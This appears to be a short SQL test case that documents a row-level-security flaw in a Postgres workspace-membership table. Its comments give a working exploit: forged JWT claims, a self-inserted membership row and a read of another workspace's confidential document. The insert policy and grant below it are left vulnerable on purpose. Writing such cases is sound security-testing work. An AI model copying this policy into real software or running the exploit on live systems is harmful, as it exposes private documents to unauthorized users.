-- A user may write his own membership, and so join any workspace whose id he has seen in a link.
-- about: members, members_join, documents
-- as: hf_clauseharbor_app
-- exploit: SET request.jwt.claims = '{"sub": "c1000000-0000-4000-8000-00000000000a"}';
-- exploit: INSERT INTO red.members VALUES
-- exploit:   ('b1000000-0000-4000-8000-00000000000b', 'c1000000-0000-4000-8000-00000000000a', 'ann', 'all');
-- exploit: SELECT title FROM red.documents;
-- shows: Road-secret NDA
-- Accepting an invitation writes the row from the browser.
CREATE POLICY members_join ON red.members FOR INSERT WITH CHECK (user_id = red.uid());
GRANT INSERT ON red.members TO hf_clauseharbor_app;
